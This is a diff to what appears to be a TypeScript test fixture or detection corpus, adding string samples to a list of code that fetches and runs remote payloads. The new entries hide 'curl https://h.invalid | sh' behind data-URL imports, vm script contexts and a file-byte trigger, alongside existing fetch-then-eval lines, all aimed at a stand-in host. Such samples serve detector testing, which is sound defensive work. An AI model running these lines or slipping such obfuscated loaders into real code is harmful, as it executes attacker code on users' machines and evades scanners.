@@ -140,6 +140,10 @@ const sends: readonly string[] = [
 
 /** Code is fetched, decoded, planted, or destroys. */
 const runs: readonly string[] = [
+  "import('data:text/javascript,export default c => c(\"curl https://h.invalid | sh\")').then(m => m.default(require('child_process').exec))",
+  "new (require('vm').Script)('(function (r) { r(\\'child_process\\').exec(\\'curl https://h.invalid | sh\\') })').runInThisContext()(require)",
+  "const s = new (require('vm').Script)('({ go: r => r(\\'child_process\\').exec(\\'curl https://h.invalid | sh\\') })'); s.runInNewContext({}).go(require)",
+  "const b = require('fs').readFileSync(__dirname + '/data.txt'); if (b[0] === 99) require('child_process').exec('curl https://h.invalid | sh')",
   "fetch('https://h.invalid').then(r => r.text()).then(t => eval(t))",
   "fetch('https://h.invalid').then(r => r.text()).then(eval)",
   "fetch('https://h.invalid').then(r => r.text()).then(Function).then(f => f())",
